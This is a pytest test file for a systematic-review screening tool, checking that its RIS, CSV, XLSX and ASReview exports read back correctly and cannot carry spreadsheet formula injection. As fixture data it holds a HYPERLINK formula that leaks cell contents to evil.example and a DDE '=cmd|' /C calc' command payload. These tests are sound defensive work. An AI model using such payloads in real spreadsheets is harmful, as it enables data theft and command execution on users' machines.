"""Exports read back with `screening import` to the same works; duplicates are listed, not repeated."""

from __future__ import annotations

import io

import openpyxl
import pandas as pd
import pytest
from typer.testing import CliRunner

from screening.cli import app
from screening.decisions.export import export_project
from screening.decisions.record import record_consensus, record_decision
from screening.decisions.reviewers import add_reviewer
from screening.dedup.service import run_dedup
from screening.records.service import import_file
from screening.spreadsheet import neutralise_cell
from screening.store.project import Project
from screening.store.records_table import records_frame
from screening.store.settings import set_setting
from tests.conftest import FIXTURES

runner = CliRunner()
IMPORTS = FIXTURES / "imports"
WORK_FIELDS = ["source_id", "title", "abstract", "authors", "year", "journal", "doi", "pmid", "keywords"]
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
REVIEWER = "=cmd|' /C calc'!A0"  # a reviewer name becomes column names of the CSV export


def _hostile_csv(folder) -> str:  # type: ignore[no-untyped-def]
    path = folder / "hostile.csv"
    pd.DataFrame({"record_id": ["H1", "H2", "@H3"],
                  "title": [HOSTILE, "+cmd a title that starts with a plus", "-omics in haemophilia"],
                  "abstract": ["An abstract.", "@SUM(1+1) in the abstract", "Another abstract."],
                  "doi": ["10.1000/h1", "", "10.1000/h3"], "year": [2021, 2020, ""]}).to_csv(path, index=False)
    return path


@pytest.fixture
def screened(tmp_path) -> Project:  # type: ignore[no-untyped-def]
    """Three exports of the same eight works (deduplicated to eight), hostile cells, decisions, consensus."""
    project = Project.init(tmp_path / "source")
    for name in ("endnote_export.ris", "scopus_export.csv", "pubmed_export.nbib"):
        import_file(project, IMPORTS / name)
    import_file(project, _hostile_csv(tmp_path))
    assert run_dedup(project).duplicates_removed == 16
    kept = records_frame(project)["id"].tolist()
    with project.session() as session:
        set_setting(session, "required_reviewers", "2", actor="lead")
        add_reviewer(session, "lead", role="lead")
        add_reviewer(session, REVIEWER)
        add_reviewer(session, "ann")
        record_decision(session, reviewer="ann", record_id=kept[0], decision="include", reasons=["I1"],
                        note="fits\r=1+1 after a bare CR")
        record_decision(session, reviewer=REVIEWER, record_id=kept[0], decision="exclude", note="@evil note")
        record_consensus(session, record_id=kept[0], stage="title_abstract", decision="include",
                         recorded_by="lead", reasons=["I1"], note="agreed: in scope")
        record_decision(session, reviewer="ann", record_id=kept[1], decision="exclude")
        record_decision(session, reviewer=REVIEWER, record_id=kept[1], decision="exclude")
    return project


def _reimported(tmp_path, path) -> pd.DataFrame:  # type: ignore[no-untyped-def]
    fresh = Project.init(tmp_path / f"fresh_{path.suffix[1:]}_{path.stem}")
    import_file(fresh, path)
    return records_frame(fresh, include_duplicates=True)


def _works(frame: pd.DataFrame, fields=WORK_FIELDS) -> list[tuple]:  # type: ignore[no-untyped-def]
    return sorted(tuple(None if pd.isna(v) else v for v in row) for row in frame[fields].itertuples(index=False))


def test_ris_reads_back_to_the_same_works_without_duplicates(screened, tmp_path):
    out = tmp_path / "out.ris"
    summary = export_project(screened, "ris", out)
    assert (summary.records, summary.duplicates_listed) == (11, 16)
    assert not out.read_text(encoding="utf-8").startswith("1.")
    again = _reimported(tmp_path, out)
    assert _works(again) == _works(records_frame(screened))  # ids, titles, DOIs, PMIDs, ... (RIS: no quoting)
    kept = records_frame(screened, include_duplicates=True)
    first = kept[kept["duplicate_of"].isna() & kept["source_id"].eq("101")].iloc[0]
    ids = kept.loc[kept["duplicate_of"] == first["id"], "source_id"]
    assert f"N1  - duplicates removed (source ids): {'; '.join(ids)}" in out.read_text(encoding="utf-8")


def test_asreview_csv_reads_back_to_the_same_works_and_labels(screened, tmp_path):
    out = tmp_path / "out.csv"
    export_project(screened, "asreview", out)
    again = _reimported(tmp_path, out)
    fields = ["source_id", "title", "abstract", "authors", "year", "doi", "pmid", "keywords"]
    expected = records_frame(screened)[fields].map(neutralise_cell)
    assert _works(again, fields) == _works(expected, fields)
    assert sorted(again["label_included"].dropna().tolist()) == [0, 1]  # one excluded, one by consensus


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_csv_and_xlsx_read_back_to_every_record(screened, tmp_path, fmt):
    out = tmp_path / f"all.{fmt}"
    assert export_project(screened, fmt, out).records == 27
    again = _reimported(tmp_path, out)
    expected = records_frame(screened, include_duplicates=True)[WORK_FIELDS].map(neutralise_cell)
    assert _works(again) == _works(expected)  # text a spreadsheet would run keeps its leading apostrophe


def test_csv_has_notes_consensus_and_duplicate_ids(screened, tmp_path):
    out = tmp_path / "all.csv"
    export_project(screened, "csv", out)
    table = pd.read_csv(out, dtype=str, keep_default_na=False).set_index("record_id")
    row = table.loc["101"]
    assert row["ann_title_abstract"] == "include" and row["ann_title_abstract_reasons"] == "I1"
    assert row["ann_title_abstract_note"] == "fits\n=1+1 after a bare CR"  # the CR is a quoted line break
    assert row["'" + REVIEWER + "_title_abstract_note"] == "'@evil note"
    assert (row["consensus_title_abstract"], row["consensus_title_abstract_reasons"],
            row["consensus_title_abstract_note"], row["consensus_title_abstract_by"]) == (
        "include", "I1", "agreed: in scope", "lead")
    assert row["final_title_abstract"] == "include" and row["duplicate_of"] == ""
    assert len(row["duplicate_ids"].split("; ")) == 2
    assert set(table.loc[row["duplicate_ids"].split("; "), "duplicate_of"]) == {"101"}


def test_no_cell_or_header_of_the_csv_can_run_as_a_formula(screened, tmp_path):
    out = tmp_path / "all.csv"
    export_project(screened, "csv", out)
    data = out.read_bytes()
    assert b"\r" not in data  # a bare CR would end the row in Excel and start an un-neutralised one
    table = pd.read_csv(io.BytesIO(data), dtype=str, keep_default_na=False, header=None)
    assert len(table) == 28  # header + 27 records: no cell split into rows
    cells = [c for c in table.to_numpy().ravel() if c]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert "'" + HOSTILE in cells and "'=cmd|' /C calc'!A0_title_abstract" in cells


def test_xlsx_has_no_formula_cells(screened, tmp_path):
    out = tmp_path / "all.xlsx"
    export_project(screened, "xlsx", out)
    sheet = openpyxl.load_workbook(out).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    values = {c.value for c in cells}
    assert "'" + HOSTILE in values and "'=cmd|' /C calc'!A0_title_abstract" in values


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "ris", "asreview"])
def test_export_into_a_missing_folder_or_onto_a_folder_is_a_clear_error(screened, tmp_path, fmt):
    missing = runner.invoke(app, ["export", str(screened.path), "--format", fmt, "--out",
                                  str(tmp_path / "no_such_folder" / f"out.{fmt}")])
    assert missing.exit_code == 2 and "folder" in missing.output and "does not exist" in missing.output
    onto = runner.invoke(app, ["export", str(screened.path), "--format", fmt, "--out", str(tmp_path)])
    assert onto.exit_code == 2 and "is a folder" in onto.output
    for result in (missing, onto):
        assert result.exception is None or isinstance(result.exception, SystemExit)
        assert "Traceback" not in result.output
    assert not (tmp_path / "no_such_folder").exists()


def test_a_reviewer_named_like_a_column_does_not_overwrite_it(tmp_path):
    project = Project.init(tmp_path / "p")
    import_file(project, IMPORTS / "endnote_export.ris")
    first = int(records_frame(project)["id"].iloc[0])
    with project.session() as session:
        set_setting(session, "required_reviewers", "2", actor="lead")
        add_reviewer(session, "final")
        record_decision(session, reviewer="final", record_id=first, decision="exclude")
    export_project(project, "csv", tmp_path / "all.csv")
    row = pd.read_csv(tmp_path / "all.csv", dtype=str, keep_default_na=False).iloc[0]
    assert row["final_title_abstract"] == ""  # one decision of the two required: no final decision yet
    assert row["final_title_abstract (reviewer)"] == "exclude"
    assert row["final_full_text"] == ""
